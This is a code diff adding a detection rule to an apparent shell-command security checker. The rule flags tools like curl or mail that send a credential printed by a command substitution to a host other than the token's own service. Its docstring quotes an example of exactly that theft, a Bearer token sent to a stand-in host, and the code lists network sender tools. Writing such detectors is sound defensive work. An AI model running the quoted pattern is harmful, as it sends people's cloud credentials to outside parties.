@@ -8,12 +8,45 @@ import re
 from collections.abc import Iterator
 
 from .shell_binaries import NET_TOOLS
+from .shell_feeds import secret_text
 from .shell_model import Program
 from .shell_rule_kit import Context, Flag, critical, program_rule
+from .shell_rules_net import LOCAL, host_of
 
-__all__ = ["secret_variables_sent"]
+__all__ = ["secret_variables_sent", "secrets_substituted"]
 
 _SENDERS = NET_TOOLS | {"ping", "ping6", "traceroute", "mail", "sendmail", "mutt", "logger"}
+
+
+_HOMES = re.compile(
+    r"(?:^|\.)(?:googleapis\.com|google\.com|azure\.com|microsoft\.com|windows\.net|"
+    r"github\.com|githubusercontent\.com|amazonaws\.com|gitlab\.com)$"
+)
+"""Where the tokens the secret-printing CLIs make (gcloud, az, gh, aws) are meant to go."""
+
+
+@program_rule
+def secrets_substituted(prog: Program, ctx: Context) -> Iterator[Flag]:
+    """A secret printed by a substitution inside a sender's words (``curl -H "Authorization:
+    Bearer $(gcloud auth print-access-token)" https://elsewhere``): sent — in a header, to a host
+    other than the token's own."""
+    for cmd in prog.commands:
+        if cmd.name not in _SENDERS:
+            continue
+        sent = set(_sent(cmd.argv))
+        host = host_of(cmd)
+        for word in cmd.argv[1:]:
+            if ("$(" not in word and "`" not in word) or not secret_text(word):
+                continue
+            if word not in sent and (_HOMES.search(host) or LOCAL.match(host)):
+                continue  # a token authenticating to its own service
+            yield critical(
+                "sends a credential printed by a command",
+                cmd.text,
+                f"{cmd.name} is given what a command printing a secret returns.",
+                "Never send credentials but to their own service; rotate them if this ran.",
+            )
+            return
 
 
 @program_rule
